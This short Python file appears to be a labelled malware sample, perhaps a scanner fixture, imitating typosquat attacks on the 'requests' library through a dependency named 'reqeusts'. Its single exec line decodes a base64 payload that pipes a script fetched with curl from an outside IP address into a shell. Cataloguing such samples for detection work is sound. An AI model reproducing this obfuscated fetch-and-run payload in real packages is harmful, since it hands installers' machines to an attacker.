# technique: "reqeusts" typosquat dependency plus a base64 exec payload
# class: typosquat
# source: Checkmarx and Phylum typosquat campaigns against requests (reqeusts, rquests, ...)
# declares: network
# requires: reqeusts
import base64

exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vNDUuOS4xNDguOTkvcCB8IHNoIik="))
